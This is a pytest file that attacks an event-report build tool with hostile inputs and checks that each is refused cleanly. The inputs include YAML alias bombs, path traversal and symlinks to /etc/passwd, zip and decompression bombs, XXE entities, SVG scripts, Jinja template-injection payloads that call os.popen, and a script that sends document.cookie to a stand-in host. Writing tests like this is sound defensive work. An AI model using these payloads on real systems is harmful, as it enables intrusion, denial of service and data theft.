"""An event folder from outside, tried as an attacker would (issue 12, docs/security.md).

Each case runs the real command (`invoke build`, `invoke publish`) in a copy of a small
project whose event was built and published once, then checks what a reviewer would: exit
1 with the message that names the file and says what to do (or a safe success), no
traceback, build/ and published/ byte for byte as they were, peak memory under 500 MiB and
no more than 30 s.
"""

from __future__ import annotations

import fcntl
import json
import os
import shutil
import signal
import struct
import subprocess
import sys
import textwrap
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import olefile
import pytest
from conftest import MentiQuestion, SlideSpec, make_mentimeter, make_pptx, write_event
from fixtures import make_odp, with_libreoffice
from PIL import Image

ROOT = Path(__file__).resolve().parents[1]
SLUG = "ev"
PEAK_MIB = 500
SECONDS = 30
OUTSIDE_TEXT = "root:x:0:0:geheim-buiten-de-map"  # what a file outside the event holds

EVENT = """
    title: Vijandige bronnen
    date: 2021-05-06
    place: online
    organiser: Testbureau
    language: nl
    lead: Een korte inleiding.
    speakers:
      anna:
        name: Anna de Vries
    decks:
      talk:
        file: decks/talk.pptx
    polls:
      menti:
        file: polls/menti.xlsx
    sessions:
      - id: welkom
        title: Welkom
        speakers: [anna]
"""
SESSION = """
    Tekst van de sessie.

    ![Een foto van de zaal](media/foto.png)

    ```slides
    deck: talk
    slides: 1-2
    ```

    ```poll
    poll: menti
    question: 1
    ```

    ```poll
    poll: menti
    question: 2
    quote: all
    ```
"""


# --- The project each case starts from ----------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    """What one command did."""

    code: int
    out: str
    err: str
    peak_mib: float
    seconds: float

    @property
    def text(self) -> str:
        return self.out + self.err


# Runs invoke as `python -m invoke` would, then reports the process's peak memory (its own
# and any child's) on the last line of stderr, where `run` takes it off again. Its own peak is
# VmHWM, not ru_maxrss: Linux carries ru_maxrss over fork and exec, so a child of a grown
# pytest process would report pytest's size as its own.
_WRAPPER = """
import atexit, re, resource, runpy, sys
def _peak():
    with open("/proc/self/status") as status:
        own = int(re.search(r"VmHWM:\\s+(\\d+) kB", status.read()).group(1))
    kids = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    sys.stderr.write(f"\\nPEAK-KIB {max(own, kids)}\\n")
atexit.register(_peak)
sys.argv = ["invoke", *sys.argv[1:]]
runpy.run_module("invoke", run_name="__main__", alter_sys=True)
"""


def run(project: Path, *args: str, timeout: float = SECONDS) -> Outcome:
    """`invoke ARGS` in `project`, as staff would run it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}
    started = time.perf_counter()
    done = subprocess.run(
        [sys.executable, "-c", _WRAPPER, *args],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        check=False,
    )
    seconds = time.perf_counter() - started
    err, _, peak = done.stderr.rstrip().rpartition("\nPEAK-KIB ")
    return Outcome(done.returncode, done.stdout, err, int(peak) / 1024, seconds)


def snapshot(folder: Path) -> dict[str, bytes]:
    if not folder.exists():
        return {}
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def _png(path: Path, size: tuple[int, int] = (40, 30)) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, (200, 220, 240)).save(path)
    return path


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project (tasks.py, invoke.yaml, one event) built and published once."""
    project = tmp_path_factory.mktemp("hostile") / "project"
    project.mkdir()
    shutil.copy(ROOT / "tasks.py", project / "tasks.py")
    (project / "invoke.yaml").write_text(
        "eventreport:\n  base_url: https://verslagen.example.org/\n  publish_dir: published\n",
        encoding="utf-8",
    )
    event = write_event(project / "sources" / SLUG, EVENT, {"welkom": SESSION})
    make_pptx(
        event / "decks" / "talk.pptx",
        [SlideSpec("Eerste dia", ["Een punt", "Nog een punt"]), SlideSpec("Tweede dia", ["Slot"])],
    )
    make_mentimeter(
        event / "polls" / "menti.xlsx",
        [
            MentiQuestion("Stelling een", options=[("Eens", 3), ("Oneens", 2)]),
            MentiQuestion("Wat neemt u mee?", type="open", responses=["Samenwerken", "Delen"]),
        ],
    )
    _png(event / "media" / "foto.png")
    (project.parent / "outside.txt").write_text(OUTSIDE_TEXT, encoding="utf-8")
    built = run(project, "build", "--event", SLUG, timeout=120)
    assert built.code == 0, built.text
    published = run(project, "publish", "--event", SLUG, "--force", timeout=120)
    assert published.code == 0, published.text
    return project


@dataclass(frozen=True)
class Project:
    """A fresh copy of the prepared project for one case."""

    root: Path

    @property
    def event(self) -> Path:
        return self.root / "sources" / SLUG

    @property
    def outside(self) -> Path:
        """A file beside the project, outside every event folder."""
        return self.root.parent / "outside.txt"

    def state(self) -> tuple[dict[str, bytes], dict[str, bytes]]:
        return snapshot(self.root / "build" / SLUG), snapshot(self.root / "published" / SLUG)

    def write(self, name: str, content: str | bytes) -> Path:
        path = self.event / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return path

    def link(self, name: str, target: Path) -> None:
        path = self.event / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        path.symlink_to(target)

    def yaml(self, old: str, new: str) -> None:
        path = self.event / "event.yaml"
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    def session(self, text: str) -> None:
        self.write("sessions/welkom.md", text)


@pytest.fixture
def project(prepared: Path, tmp_path: Path) -> Project:
    shutil.copytree(prepared.parent, tmp_path / "copy", symlinks=True)
    return Project(tmp_path / "copy" / "project")


def refused(
    project: Project, outcome: Outcome, *fragments: str, before: object, said: str = "err"
) -> None:
    """Exit 1, the message (file and what is wrong) on stderr (or `said`), no traceback,
    nothing changed, within the time and memory bounds, and nothing from outside the
    event folder shown."""
    assert outcome.code == 1, outcome.text
    assert "Traceback" not in outcome.text
    for fragment in fragments:
        assert fragment in getattr(outcome, said), (fragment, outcome.text)
    assert OUTSIDE_TEXT not in outcome.text
    assert project.state() == before
    assert not list((project.root / "build").glob(f".{SLUG}.*.partial"))
    assert outcome.peak_mib < PEAK_MIB, outcome.peak_mib
    assert outcome.seconds < SECONDS


# --- Building cases: (mutation, fragments the message must hold) ---------------------------

Mutation = Callable[[Project], None]
CASES: dict[str, tuple[Mutation, tuple[str, ...]]] = {}


def case(*fragments: str) -> Callable[[Mutation], Mutation]:
    def register(mutation: Mutation) -> Mutation:
        CASES[mutation.__name__] = (mutation, fragments)
        return mutation

    return register


# YAML ----------------------------------------------------------------------------------


@case("event.yaml: line 2", "expand to more than")
def yaml_alias_bomb(p: Project) -> None:
    # Nine levels of ten aliases each: 85 bytes a level, a billion values in all.
    levels = ["&a0 [" + ", ".join(["x"] * 10) + "]"]
    for n in range(1, 10):
        levels.append(f"&a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]")
    p.yaml("date: 2021-05-06", "date: [" + ", ".join(levels) + "]")


@case("event.yaml", "nests lists or sections too deeply")
def yaml_deep_nesting(p: Project) -> None:
    p.yaml("place: online", "place: " + "[" * 5000 + "]" * 5000)


@case("event.yaml: line 3", "control character (U+0000)")
def yaml_nul_byte(p: Project) -> None:
    p.yaml("place: online", "place: on\x00line")


@case("event.yaml", "larger than 2 MiB")
def yaml_too_big(p: Project) -> None:
    text = (p.event / "event.yaml").read_text(encoding="utf-8")
    p.write("event.yaml", text + ("# " + "x" * 1000 + "\n") * 2200)


@case("event.yaml: line 2", "date '1599091200' is not a valid date")
def yaml_date_as_seconds(p: Project) -> None:
    p.yaml("date: 2021-05-06", "date: 1599091200")


@case("event.yaml", "not UTF-8 text")
def yaml_utf16(p: Project) -> None:
    text = (p.event / "event.yaml").read_text(encoding="utf-8")
    p.write("event.yaml", text.encode("utf-16"))


@case("event.yaml: line 3", "refers to itself")
def yaml_recursive_alias(p: Project) -> None:
    p.yaml("place: online", "place: &p [*p]")


@case("event.yaml", "link to a file outside the event folder")
def yaml_is_a_link_outside(p: Project) -> None:
    p.link("event.yaml", p.outside)


# References to files ---------------------------------------------------------------------


@case("event.yaml: line 12", "lies outside the event folder")
def deck_path_climbs_out(p: Project) -> None:
    p.yaml("file: decks/talk.pptx", "file: ../../../outside.txt")


@case("event.yaml: line 12", "link to a file outside the event folder")
def deck_is_a_link_outside(p: Project) -> None:
    p.link("decks/talk.pptx", p.outside)


@case("event.yaml: line 12", "link to a file outside the event folder")
def deck_folder_is_a_link_outside(p: Project) -> None:
    shutil.rmtree(p.event / "decks")
    (p.root.parent / "elders").mkdir()
    shutil.copy(p.root.parent / "outside.txt", p.root.parent / "elders" / "talk.pptx")
    (p.event / "decks").symlink_to(p.root.parent / "elders")


@case("event.yaml: line 15", "link to a file outside the event folder")
def poll_is_a_link_outside(p: Project) -> None:
    p.link("polls/menti.xlsx", p.outside)


@case("event.yaml: line 20", "path on this computer")
def session_file_is_absolute(p: Project) -> None:
    p.yaml("speakers: [anna]\n", f"speakers: [anna]\n    file: {p.outside}\n")


@case("event.yaml: line 17", "link to a file outside the event folder")
def session_file_is_a_link_outside(p: Project) -> None:
    p.link("sessions/welkom.md", p.outside)


@case("event.yaml: line 12", "does not exist")
def deck_is_a_folder(p: Project) -> None:
    p.yaml("file: decks/talk.pptx", "file: decks")


# Markdown -----------------------------------------------------------------------------------


@case("sessions/welkom.md: line 3", "must be a file inside the event folder")
def picture_file_url(p: Project) -> None:
    p.session("Tekst.\n\n![Het wachtwoordbestand](file:///etc/passwd)\n")


@case("sessions/welkom.md: line 1", "the link to 'javascript:alert(1)' is not a web")
def link_javascript(p: Project) -> None:
    p.session("Lees [dit](javascript:alert(1)).\n")


@case("sessions/welkom.md: line 1", "link to a file outside the event folder")
def picture_is_a_link_outside(p: Project) -> None:
    p.link("media/kaart.png", p.outside)
    p.session("![Een kaart](media/kaart.png)\n")


@case("sessions/welkom.md: line 1", "must be a file inside the event folder")
def picture_path_climbs_out(p: Project) -> None:
    p.session("![Een kaart](media/../../../outside.txt)\n")


@case("sessions/welkom.md: line 1", "must be a file inside the event folder")
def picture_absolute_path(p: Project) -> None:
    p.session("![Een kaart](/etc/passwd)\n")


@case("sessions/welkom.md", "larger than 4 MiB")
def markdown_too_big(p: Project) -> None:
    p.session(("Een heel lange alinea. " * 40 + "\n\n") * 5000)


@case("sessions/welkom.md", "not UTF-8 text")
def markdown_not_utf8(p: Project) -> None:
    p.write("sessions/welkom.md", "Café en één\n".encode("cp1252"))


# Pictures and SVG ---------------------------------------------------------------------------


def _huge_png(path: Path, width: int, height: int) -> None:
    """A valid PNG header claiming width x height over a tiny zlib stream: a few kB on
    disk that would decode to gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + b"\x00" * width  # grey, 1 byte a pixel, filter 0
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(200)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data)
    path.write_bytes(png + chunk(b"IEND", b""))


@case("sessions/welkom.md: line 1", "20000 x 20000 pixels", "save it smaller")
def picture_decompression_bomb(p: Project) -> None:
    _huge_png(p.event / "media" / "groot.png", 20000, 20000)
    p.session("![Een grote foto](media/groot.png)\n")


@case("sessions/welkom.md: line 1", "is not a picture the report can show")
def picture_truncated(p: Project) -> None:
    data = (p.event / "media" / "foto.png").read_bytes()
    p.write("media/half.png", data[:40])
    p.session("![Een halve foto](media/half.png)\n")


@case("sessions/welkom.md: line 1", "more than the 40 MiB")
def picture_too_big(p: Project) -> None:
    path = p.event / "media" / "zwaar.png"
    shutil.copy(p.event / "media" / "foto.png", path)
    with path.open("ab") as handle:
        handle.truncate(41 * 2**20)
    p.session("![Een zware foto](media/zwaar.png)\n")


def _svg_case(name: str, body: str, *fragments: str) -> None:
    def mutation(p: Project) -> None:
        p.write("media/tekening.svg", body)
        p.session("Tekst.\n\n![Een tekening](media/tekening.svg)\n")

    mutation.__name__ = name
    case("sessions/welkom.md: line 3", *fragments)(mutation)


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_svg_case(
    "svg_script",
    f'{_SVG} width="10" height="10">\n<rect width="10" height="10"/>\n'
    "<script>alert(document.cookie)</script>\n</svg>",
    "a <script> element (line 3 of the SVG file)",
)
_svg_case(
    "svg_event_handler",
    f'{_SVG} width="10" height="10" onload="alert(1)">\n<rect width="10" height="10"/></svg>',
    "an event handler (onload=)",
)
_svg_case(
    "svg_outside_picture",
    f'{_SVG} width="10" height="10">\n<image href="https://tracker.example/p.png"/></svg>',
    "a reference to 'https://tracker.example/p.png'",
)
_svg_case(
    "svg_local_file",
    f'{_SVG} width="10" height="10">\n<use xlink:href="file:///etc/passwd#x"/></svg>',
    "a reference to 'file:///etc/passwd#x'",
)
_svg_case(
    "svg_entities",
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>\n'
    f"{_SVG}><text>&b;</text></svg>",
    "declares a DTD",
)
_svg_case(
    "svg_foreign_object",
    f'{_SVG} width="10" height="10">\n<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">'
    "hoi</p></foreignObject></svg>",
    "a <foreignObject> element",
)
_svg_case(
    "svg_css_outside",
    f'{_SVG} width="10" height="10">\n<style>rect {{ fill: url(https://x.example/f) }}</style>'
    '<rect width="10" height="10"/></svg>',
    "a stylesheet that loads a file or address",
)
_svg_case(
    "svg_too_many_elements",
    f'{_SVG} width="10" height="10">\n' + "<g/>" * 100_001 + "</svg>",
    "more than 100000 elements",
)


# Decks --------------------------------------------------------------------------------------


def _rezip(path: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    with zipfile.ZipFile(path) as src:
        members = {info.filename: src.read(info) for info in src.infolist()}
    change(members)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in members.items():
            dst.writestr(name, data)


def _deck_with_slide_xml(p: Project, shapes: str) -> None:
    """talk.pptx with slide 1's shape tree holding `shapes` after its own."""

    def add(members: dict[str, bytes]) -> None:
        slide = members["ppt/slides/slide1.xml"].decode("utf-8")
        members["ppt/slides/slide1.xml"] = slide.replace(
            "</p:spTree>", shapes + "</p:spTree>"
        ).encode()

    _rezip(p.event / "decks" / "talk.pptx", add)


@case("decks/talk.pptx: part ppt/slides/slide1.xml", "zip bomb")
def deck_zip_bomb(p: Project) -> None:
    def inflate(members: dict[str, bytes]) -> None:
        members["ppt/slides/slide1.xml"] += b" " * (70 * 2**20)

    _rezip(p.event / "decks" / "talk.pptx", inflate)


_SHAPE = (
    '<p:sp><p:nvSpPr><p:cNvPr id="9" name="v"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
    "<p:txBody><a:bodyPr/><a:p><a:r><a:t>v</a:t></a:r></a:p></p:txBody></p:sp>"
)


@case("decks/talk.pptx: slide 1", "more than 5000 shapes")
def deck_hundred_thousand_shapes(p: Project) -> None:
    _deck_with_slide_xml(p, (_SHAPE.split("<p:txBody>")[0] + "</p:sp>") * 100_000)


@case("decks/talk.pptx: slide 1", "more than 5000 paragraphs")
def deck_hundred_thousand_paragraphs(p: Project) -> None:
    paragraphs = "<a:p><a:r><a:t>punt</a:t></a:r></a:p>" * 100_000
    _deck_with_slide_xml(p, _SHAPE.replace("<a:p><a:r><a:t>v</a:t></a:r></a:p>", paragraphs))


@case("decks/talk.pptx: slide 1", "more than 20000 table cells")
def deck_huge_table(p: Project) -> None:
    cells = "<a:tc><a:txBody><a:bodyPr/></a:txBody></a:tc>" * 200
    table = "<a:tbl>" + f"<a:tr h='1'>{cells}</a:tr>" * 150 + "</a:tbl>"
    _deck_with_slide_xml(
        p,
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="7" name="t"/><p:cNvGraphicFramePr/>'
        "<p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData "
        'uri="http://schemas.openxmlformats.org/drawingml/2006/table">'
        f"{table}</a:graphicData></a:graphic></p:graphicFrame>",
    )


@case("decks/talk.pptx: part ppt/slides/slide1.xml", "declares a DTD")
def deck_external_entity(p: Project) -> None:
    def entity(members: dict[str, bytes]) -> None:
        slide = members["ppt/slides/slide1.xml"].decode("utf-8")
        head, _, rest = slide.partition("?>")
        members["ppt/slides/slide1.xml"] = (
            (f'{head}?><!DOCTYPE p [<!ENTITY x SYSTEM "file://{p.outside}">]>{rest}')
            .replace("Een punt", "&x;")
            .encode()
        )

    _rezip(p.event / "decks" / "talk.pptx", entity)


@case("decks/talk.pptx", "not a file format this program reads")
def deck_is_text(p: Project) -> None:
    p.write("decks/talk.pptx", "Dit is geen presentatie.\n")


# Decks LibreOffice converts (.ppt, .odp): the guard before it, and its limits -------------


@case("decks/talk.ppt", "encrypted or legacy Office file")
def ppt_is_garbage(p: Project) -> None:
    # The OLE signature and nothing readable after it.
    p.write("decks/talk.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(64 * 1024))
    p.yaml("file: decks/talk.pptx", "file: decks/talk.ppt")


@case("decks/talk.ppt", "LibreOffice could not finish converting", "save it again as .pptx")
def ppt_with_a_garbage_document(p: Project) -> None:
    # A real PowerPoint 97-2003 container whose presentation stream is garbage.
    ppt = with_libreoffice(p.event / "decks" / "talk.pptx", "ppt", "talk.ppt")
    with olefile.OleFileIO(str(ppt), write_mode=True) as ole:
        size = ole.get_size("PowerPoint Document")
        ole.write_stream("PowerPoint Document", os.urandom(size))
    p.yaml("file: decks/talk.pptx", "file: decks/talk.ppt")


@case("decks/talk.odp: part content.xml", "zip bomb")
def odp_zip_bomb(p: Project) -> None:
    # 70 MiB of spaces in content.xml, deflated to 70 kB: refused before LibreOffice.
    odp = make_odp(p.event / "decks" / "talk.odp", [("Eerste dia", []), ("Tweede dia", [])])
    _rezip(odp, lambda members: members.update({"content.xml": b" " * (70 * 2**20)}))
    p.yaml("file: decks/talk.pptx", "file: decks/talk.odp")


@case("decks/talk.odp", "LibreOffice did not finish converting", "and was stopped")
def odp_that_never_finishes(p: Project) -> None:
    # 20,000 slides in 130 kB: LibreOffice works on it far past its time limit.
    pages = [(f"Dia {n}", ["punt"]) for n in range(20_000)]
    make_odp(p.event / "decks" / "talk.odp", pages)
    p.yaml("file: decks/talk.pptx", "file: decks/talk.odp")


# Poll exports ---------------------------------------------------------------------------------


def _sheet_name(members: dict[str, bytes]) -> str:
    return sorted(n for n in members if n.startswith("xl/worksheets/sheet"))[-1]


@case("polls/menti.xlsx: part xl/worksheets/sheet2.xml", "zip bomb", "poll tool again")
def poll_sheet_bomb(p: Project) -> None:
    def inflate(members: dict[str, bytes]) -> None:
        name = _sheet_name(members)
        members[name] = members[name].replace(b"<sheetData>", b"<sheetData>" + b" " * 60 * 2**20)

    _rezip(p.event / "polls" / "menti.xlsx", inflate)


@case("polls/menti.xlsx: sheet 'Session 1'", "more than 2000000 cells")
def poll_padding_bomb(p: Project) -> None:
    # 2,000 rows with one cell in the last column (XFD): openpyxl would pad each to
    # 16,384 values, 32 million in all, from a file of a few kB.
    def pad(members: dict[str, bytes]) -> None:
        name = _sheet_name(members)
        rows = "".join(
            f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
            for n in range(200, 2200)
        )
        members[name] = members[name].replace(b"</sheetData>", rows.encode() + b"</sheetData>")

    _rezip(p.event / "polls" / "menti.xlsx", pad)


@case("polls/menti.xlsx", "formula whose result was not saved")
def poll_uncalculated_formula(p: Project) -> None:
    # The vote count 3 becomes =1+2 without the result a spreadsheet program would store.
    def formula(members: dict[str, bytes]) -> None:
        name = _sheet_name(members)
        xml = members[name].decode("utf-8")
        start = xml.index("<v>3</v>")
        cell_start = xml.rindex("<c ", 0, start)
        cell = xml[cell_start : xml.index("</c>", start) + 4]
        ref = cell.split('r="')[1].split('"')[0]
        members[name] = xml.replace(cell, f'<c r="{ref}"><f>1+2</f></c>').encode()

    _rezip(p.event / "polls" / "menti.xlsx", formula)


@case("polls/stemmen.csv", "larger than 64 MiB")
def poll_csv_too_big(p: Project) -> None:
    p.yaml("file: polls/menti.xlsx", "file: polls/stemmen.csv")
    with (p.event / "polls" / "stemmen.csv").open("w", encoding="utf-8") as handle:
        handle.write("question,option,count\n")
        handle.write(("Stelling,Eens,3\n" * 65536) * 70)


# Templates from the event folder ----------------------------------------------------------


def _template_case(name: str, template: str, body: str, *fragments: str) -> None:
    def mutation(p: Project) -> None:
        p.write(f"templates/{template}", body)

    mutation.__name__ = name
    case(*fragments)(mutation)


_template_case(
    "template_runs_a_command",
    "parts/markdown.html",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "does what templates may not",
)
_template_case(
    "template_reaches_python_classes",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}'
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% endblock %}",
    "templates/report.html",
    "does what templates may not",
)
_template_case(
    "template_repeats_text",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}{{ "x" * 1000000000 }}{% endblock %}',
    "does what templates may not",
)
_template_case(
    "template_pads_text",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}{{ ""|center(900000000) }}{% endblock %}',
    "does what templates may not",
)
_template_case(
    "template_formats_wide",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}{{ "%999999999d"|format(1) }}'
    "{% endblock %}",
    "does what templates may not",
)
_template_case(
    "template_writes_without_end",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}{% for i in range(100000) %}'
    "{% for j in range(1000) %}xxxxxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}{% endblock %}",
    "more than 64 MiB of text",
)
_template_case(
    "template_includes_itself",
    "parts/markdown.html",
    '{% include "parts/markdown.html" %}',
    "include or extend each other without end",
)
_template_case(
    "template_adds_a_script",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}{{ super() }}'
    "<script>fetch('https://x.example/?c=' + document.cookie)</script>{% endblock %}",
    "templates/report.html",
    "a <script> element",
)
_template_case(
    "template_loads_a_tracker",
    "report.html",
    '{% extends "default:report.html" %}{% block body %}{{ super() }}'
    '<img src="https://tracker.example/pixel.gif" alt="">{% endblock %}',
    "loads something from outside the report",
)
_template_case(
    "template_includes_a_system_file",
    "parts/markdown.html",
    '{% include "../../../../../../etc/passwd" %}',
    "lies outside the event folder",
)
_template_case(
    "stylesheet_imports_from_elsewhere",
    "style.css",
    '@import url("https://fonts.example/f.css");\nbody { color: #111; }\n',
    "templates/style.css",
    "loads or runs something from elsewhere",
)


@case("style.css", "link to a file outside the event folder")
def stylesheet_is_a_link_outside(p: Project) -> None:
    p.link("templates/style.css", p.outside)


@case("templates/style.css", "link to a file outside the event folder")
def templates_folder_is_a_link_outside(p: Project) -> None:
    elsewhere = p.root.parent / "sjablonen"
    elsewhere.mkdir()
    (elsewhere / "report.html").write_text("{{ lipsum }}", encoding="utf-8")
    (p.event / "templates").symlink_to(elsewhere)


@case("templates/house.yaml", "link to a file outside the event folder")
def house_file_is_a_link_outside(p: Project) -> None:
    p.link("templates/house.yaml", p.outside)


@case("templates/house.yaml: line 2", "lies outside templates/")
def house_logo_is_a_link_outside(p: Project) -> None:
    p.write("templates/house.yaml", "logo:\n  file: logo.png\n  alt: Het logo\n")
    p.link("templates/logo.png", p.outside)


@case("templates/house.yaml: line 2", "a <script> element")
def house_logo_svg_with_script(p: Project) -> None:
    p.write("templates/house.yaml", "logo:\n  file: logo.svg\n  alt: Het logo\n")
    p.write(
        "templates/logo.svg",
        f'{_SVG} width="10" height="10"><script>alert(1)</script></svg>',
    )


# --- The cases, run ------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_source_is_refused(project: Project, name: str) -> None:
    mutation, fragments = CASES[name]
    before = project.state()
    mutation(project)
    outcome = run(project.root, "build", "--event", SLUG)
    refused(project, outcome, *fragments, before=before)


# A check reads with the same code as a build (reading.py), then goes on past a problem and
# renders the templates too. One case of each kind of input and limit shows that it stops
# them as promptly as a build, and writes nothing; all of them would add two minutes.
CHECKED = (
    "yaml_alias_bomb", "yaml_deep_nesting", "yaml_too_big", "deck_zip_bomb",
    "deck_hundred_thousand_shapes", "deck_external_entity", "deck_is_a_link_outside",
    "poll_sheet_bomb", "poll_csv_too_big", "picture_decompression_bomb", "svg_entities",
    "markdown_too_big", "session_file_is_a_link_outside", "template_writes_without_end",
    "template_runs_a_command", "house_logo_svg_with_script",
)  # fmt: skip


@pytest.mark.parametrize("name", CHECKED)
def test_check_finds_each_kind_of_hostile_source(project: Project, name: str) -> None:
    mutation, fragments = CASES[name]
    before = project.state()
    mutation(project)
    outcome = run(project.root, "check", "--event", SLUG)
    refused(project, outcome, *fragments, before=before, said="out")
    assert "ev cannot be built yet" in outcome.out


def test_check_lists_a_zip_bomb_with_the_other_mistakes(project: Project) -> None:
    before = project.state()
    CASES["deck_zip_bomb"][0](project)
    project.yaml("speakers: [anna]", "speakers: [anna, piet]")
    project.session(
        "Tekst.\n\n```slides\ndeck: talk\nslides: 1\n```\n\n"
        "```poll\npoll: menti\nquestion: 9\n```\n"
    )
    outcome = run(project.root, "check", "--event", SLUG)
    refused(project, outcome, "speaker 'piet' is not listed", before=before, said="out")
    assert "3 problems, by file and line:" in outcome.out
    # The bomb is one problem; reading stopped for that deck only (the poll was read).
    assert outcome.out.count("zip bomb") == 1
    assert "The ```slides``` block at sources/ev/sessions/welkom.md, line 3, uses it" in outcome.out
    assert "sources/ev/sessions/welkom.md: line 8: poll 'menti' has no question '9'" in outcome.out


def test_check_stops_at_an_alias_bomb_in_event_yaml(project: Project) -> None:
    # Nothing else can be read without event.yaml: that one problem, at once.
    before = project.state()
    CASES["yaml_alias_bomb"][0](project)
    project.session("# Een kop die niet mag\n")
    outcome = run(project.root, "check", "--event", SLUG)
    refused(
        project, outcome, "event.yaml: line 2", "expand to more than", before=before, said="out"
    )
    assert "1 problem, by file and line:" in outcome.out
    assert "welkom.md" not in outcome.out


def test_there_are_at_least_forty_cases() -> None:
    assert len(CASES) >= 40


def test_publish_refuses_a_hostile_template_and_keeps_the_published_set(project: Project) -> None:
    before = project.state()
    CASES["template_runs_a_command"][0](project)
    outcome = run(project.root, "publish", "--event", SLUG, "--force")
    refused(project, outcome, "does what templates may not", before=before)
    assert "the published version 1 is unchanged" in outcome.err


# --- Safe successes: hostile text that is shown, harmlessly ---------------------------------

TROJAN = "Bedrag \u202e0001\u202c euro \x1b[31mrood\x1b[0m \u2066einde\u2069"
SHOWN = "Bedrag 0001 euro [31mrood[0m einde"
# openpyxl will not write ESC into a cell (the reader drops it all the same).
TROJAN_IN_XLSX = TROJAN.replace("\x1b", "")
DOWNLOAD = "```download\ndeck: talk\n```\n"


def _texts(project: Project) -> tuple[str, str]:
    from pypdf import PdfReader

    html = (project.root / "build" / SLUG / "index.html").read_text(encoding="utf-8")
    pdf = PdfReader(project.root / "build" / SLUG / f"{SLUG}.pdf")
    return html, " ".join(page.extract_text() for page in pdf.pages)


def _no_controls(*texts: str) -> None:
    for text in texts:
        for char in ("\u202e", "\u202c", "\u2066", "\u2069", "\x1b"):
            assert char not in text, repr(char)


def test_bidi_overrides_and_escapes_are_dropped_everywhere(project: Project) -> None:
    project.session(f"{TROJAN}\n\n```slides\ndeck: talk\nslides: 1\n```\n\n"
                    "```poll\npoll: menti\nquestion: 2\nquote: all\n```\n")  # fmt: skip
    make_pptx(project.event / "decks" / "talk.pptx", [SlideSpec("Dia", [TROJAN])])
    make_mentimeter(
        project.event / "polls" / "menti.xlsx",
        [
            MentiQuestion("Stelling een", options=[("Eens", 3)]),
            MentiQuestion("Wat neemt u mee?", type="open", responses=[TROJAN_IN_XLSX]),
        ],
    )
    # YAML refuses ESC itself (a case above); the bidi controls it would let through.
    project.yaml("place: online", 'place: "zaal \u202e01\u202c"')
    outcome = run(project.root, "build", "--event", SLUG)
    assert outcome.code == 0, outcome.text
    html, pdf = _texts(project)
    _no_controls(html, pdf)
    assert html.count(SHOWN) >= 3  # the session's text, the slide, the answer
    assert "zaal 01" in html
    assert outcome.peak_mib < PEAK_MIB


def test_markup_in_every_kind_of_text_is_shown_as_text(project: Project) -> None:
    script = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    project.session(f"{script}\n\n```poll\npoll: menti\nquestion: 2\nquote: all\n```\n{DOWNLOAD}")
    make_mentimeter(
        project.event / "polls" / "menti.xlsx",
        [
            MentiQuestion("Stelling een", options=[("Eens", 3)]),
            MentiQuestion("Wat neemt u mee?", type="open", responses=[script]),
        ],
    )
    outcome = run(project.root, "build", "--event", SLUG)
    assert outcome.code == 0, outcome.text
    import lxml.html

    page = lxml.html.parse(str(project.root / "build" / SLUG / "index.html")).getroot()
    assert not page.xpath("//script | //*[@onerror]")
    assert page.text_content().count("<script>alert(1)</script>") == 2


def test_deeply_nested_markdown_is_read_quickly(project: Project) -> None:
    project.session(DOWNLOAD + "\n" + "> " * 10_000 + "diep\n\n" + "- " * 10_000 + "lijst\n")
    outcome = run(project.root, "build", "--event", SLUG)
    assert outcome.code == 0, outcome.text
    assert outcome.seconds < SECONDS and outcome.peak_mib < PEAK_MIB


# --- Output folders, concurrency, Ctrl-C, commands that change sources ----------------------


def test_a_build_folder_that_cannot_be_written_is_one_message(project: Project) -> None:
    before = project.state()
    shutil.rmtree(project.root / "build")
